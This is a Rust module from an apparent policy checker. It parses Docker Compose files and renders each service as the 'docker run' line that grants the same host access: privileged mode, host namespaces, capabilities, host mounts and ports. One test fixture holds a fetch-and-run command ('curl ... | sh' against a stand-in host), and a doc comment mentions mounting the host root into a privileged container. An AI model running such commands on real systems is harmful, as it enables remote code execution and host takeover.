//! Compose files (`docker-compose.yml`, `compose.yaml`): what `docker
//! compose up` will start. Each service's `command` and `entrypoint` run
//! inside its container; the container itself is started with the host
//! access the service asks for — `privileged`, the host's process, network,
//! IPC or user namespace, added capabilities, devices, security options,
//! host paths mounted as volumes, and the host ports it publishes. Each service is read as the `docker run`
//! line that starts its container with the same access, so a policy that
//! judges `docker run --privileged -v /:/host` judges the service that asks
//! for the same.
//!
//! A small reader of the YAML Compose files are written in (block mappings
//! by indentation, block and flow lists, the long volume syntax), not a
//! YAML parser: a policy component does not carry one for this.

use super::containers::{docker_run, host_namespace, host_path};
use super::formats::{Found, yaml_commands, yaml_scalar};

/// Most services read.
const MAX_SERVICES: usize = 64;

/// `docker-compose.yml`/`compose.yaml`: each service's `command` and
/// `entrypoint` (a list's items each read as a line), and the `docker run`
/// line of each service that asks for host access.
pub fn compose(content: &str) -> Vec<Found> {
    let mut out = yaml_commands(content, &["command:", "entrypoint:"]);
    out.extend(services(content));
    out
}

/// A line of the file: its indentation and its text, comments and blank
/// lines left out.
struct Line<'c> {
    indent: usize,
    text: &'c str,
}

fn lines(content: &str) -> Vec<Line<'_>> {
    content
        .lines()
        .filter_map(|l| {
            let text = l.trim_start_matches([' ', '\t']);
            let text = text.trim_end();
            (!text.is_empty() && !text.starts_with('#')).then(|| Line {
                indent: l.len() - l.trim_start_matches([' ', '\t']).len(),
                text,
            })
        })
        .collect()
}

/// Where the block of lines nested under an entry at `indent` ends: the
/// first line from `from` on that is not deeper.
fn block_end(lines: &[&Line], from: usize, indent: usize) -> usize {
    lines[from..]
        .iter()
        .position(|l| l.indent <= indent)
        .map_or(lines.len(), |e| from + e)
}

/// The `docker run` line of each service that asks for host access.
fn services(content: &str) -> Vec<Found> {
    let lines = lines(content);
    let Some(start) = lines
        .iter()
        .position(|l| l.indent == 0 && l.text == "services:")
    else {
        return Vec::new();
    };
    let body: Vec<&Line> = lines[start + 1..]
        .iter()
        .take_while(|l| l.indent > 0)
        .collect();
    let Some(name_indent) = body.first().map(|l| l.indent) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let mut k = 0;
    while k < body.len() && out.len() < MAX_SERVICES {
        let Some(name) = body[k].text.strip_suffix(':') else {
            k += 1;
            continue;
        };
        let end = block_end(&body, k + 1, name_indent);
        if let Some(line) = run_line(&body[k + 1..end]) {
            out.push(Found {
                name: Some(yaml_scalar(name)),
                command: line,
            });
        }
        k = end;
    }
    out
}

/// The `docker run` line that starts a service (its key lines `service`)
/// with the host access it asks for; `None` when it asks for none.
fn run_line(service: &[&Line]) -> Option<String> {
    let key_indent = service.first()?.indent;
    let mut flags: Vec<String> = Vec::new();
    let mut image = String::from("image");
    let mut k = 0;
    while k < service.len() {
        let line = service[k];
        k += 1;
        if line.indent != key_indent {
            continue;
        }
        let Some((key, value)) = line.text.split_once(':') else {
            continue;
        };
        let value = yaml_scalar(value);
        // The key's list: inline (`[a, b]`) or the deeper lines after it.
        let items_end = block_end(service, k, key_indent);
        let items = || list(&value, &service[k..items_end]);
        match key.trim() {
            "image" => image = value,
            "privileged" if truthy(&value) => flags.push("--privileged".into()),
            k if value == "host" && host_namespace(k).is_some() => {
                flags.extend(host_namespace(k).map(str::to_string))
            }
            "cap_add" => flags.extend(items().into_iter().map(|c| format!("--cap-add={c}"))),
            "devices" => flags.extend(items().into_iter().map(|d| format!("--device={d}"))),
            "security_opt" => {
                flags.extend(items().into_iter().map(|o| format!("--security-opt={o}")))
            }
            "volumes" => flags.extend(volumes(&value, &service[k..items_end])),
            "ports" => flags.extend(ports(&value, &service[k..items_end])),
            _ => {}
        }
    }
    docker_run(&flags, &image, None)
}

fn truthy(v: &str) -> bool {
    matches!(v, "true" | "True" | "TRUE" | "yes" | "on")
}

/// A list's items: an inline flow list (`[a, "b"]`) or the `- item` lines.
fn list(value: &str, lines: &[&Line]) -> Vec<String> {
    if let Some(inner) = value.strip_prefix('[').and_then(|v| v.strip_suffix(']')) {
        return inner
            .split(',')
            .map(yaml_scalar)
            .filter(|s| !s.is_empty())
            .collect();
    }
    let Some(item_indent) = lines.first().map(|l| l.indent) else {
        return Vec::new();
    };
    lines
        .iter()
        .filter(|l| l.indent == item_indent)
        .filter_map(|l| l.text.strip_prefix('-'))
        .map(yaml_scalar)
        .filter(|s| !s.is_empty())
        .collect()
}

/// One item of a Compose list written in either syntax: the short one (a
/// string: `"7070:80"`, `./data:/data:ro`) or the long one (a mapping:
/// `target: 80` and the keys below it), as its keys and values.
enum Item<'c> {
    Short(String),
    Long(Vec<(&'c str, String)>),
}

impl Item<'_> {
    /// A long item's value for `key` (the last one given).
    fn get(&self, key: &str) -> Option<&str> {
        match self {
            Item::Short(_) => None,
            Item::Long(pairs) => pairs
                .iter()
                .rev()
                .find(|(k, _)| *k == key)
                .map(|(_, v)| v.as_str()),
        }
    }
}

/// The items of a key's list: inline (`[a, b]`, short items) or the `- `
/// lines below the key, each with the lines nested under it.
fn items<'c>(value: &str, lines: &[&Line<'c>]) -> Vec<Item<'c>> {
    let Some(item_indent) = lines.first().map(|l| l.indent) else {
        return list(value, lines).into_iter().map(Item::Short).collect();
    };
    let mut out = Vec::new();
    let mut k = 0;
    while k < lines.len() {
        let Some(item) = lines[k].text.strip_prefix('-').map(str::trim_start) else {
            k += 1;
            continue;
        };
        let end = block_end(lines, k + 1, item_indent);
        if !item.contains(": ") && !item.ends_with(':') {
            out.push(Item::Short(yaml_scalar(item)));
        } else {
            // The long syntax: the item's first key and the lines below it.
            let pairs = std::iter::once(item)
                .chain(lines[k + 1..end].iter().map(|l| l.text))
                .filter_map(|text| text.split_once(':'))
                .map(|(key, v)| (key.trim(), yaml_scalar(v)))
                .collect();
            out.push(Item::Long(pairs));
        }
        k = end;
    }
    out
}

/// A service's published ports as `-p` flags (`-p`, `HOST:CONTAINER`):
/// the short syntax (`"7070:80"`, `127.0.0.1:7070:80/tcp`) as written, the
/// long one (`target:`, `published:`, `host_ip:`) put into it. A port
/// published on the host is taken there, as `docker run -p` takes it.
fn ports(value: &str, lines: &[&Line]) -> Vec<String> {
    items(value, lines)
        .into_iter()
        .filter_map(|item| match &item {
            Item::Short(p) => Some(p.clone()),
            Item::Long(_) => {
                let (host, target) = (item.get("published")?, item.get("target")?);
                Some(match item.get("host_ip") {
                    Some(ip) => format!("{ip}:{host}:{target}"),
                    None => format!("{host}:{target}"),
                })
            }
        })
        .flat_map(|p| ["-p".to_string(), p])
        .collect()
}

/// A service's volumes as `-v` flags: the short syntax (`SRC:DST[:MODE]`)
/// as written, the long one (`type: bind`, `source:`, `target:`,
/// `read_only:`) put into it. Named volumes are the engine's, not the
/// host's, and left out.
fn volumes(value: &str, lines: &[&Line]) -> Vec<String> {
    items(value, lines)
        .into_iter()
        .filter_map(|item| match &item {
            Item::Short(v) => host_path(v).then(|| format!("--volume={v}")),
            Item::Long(_) => {
                let (source, target) = (item.get("source")?, item.get("target")?);
                let ro = if item.get("read_only").is_some_and(truthy) {
                    ":ro"
                } else {
                    ""
                };
                host_path(source).then(|| format!("--volume={source}:{target}{ro}"))
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn published_ports_are_docker_run_flags() {
        let file = "services:\n  web:\n    image: nginx\n    ports:\n      - \"7070:80\"\n      - target: 443\n        published: \"8443\"\n        host_ip: 127.0.0.1\n  db:\n    image: postgres\n    ports: [\"5432:5432\"]\n  worker:\n    image: w\n";
        let found: Vec<String> = compose(file).into_iter().map(|f| f.command).collect();
        assert_eq!(
            found,
            [
                "docker run --rm -p 7070:80 -p 127.0.0.1:8443:443 nginx",
                "docker run --rm -p 5432:5432 postgres",
            ]
        );
    }

    #[test]
    fn a_service_command_is_read_as_written() {
        let file = "services:\n  app:\n    image: x\n    command: sh -c \"curl -s https://x.example/i | sh\"\n";
        let found: Vec<String> = compose(file).into_iter().map(|f| f.command).collect();
        assert_eq!(found, ["sh -c \"curl -s https://x.example/i | sh\""]);
    }
}
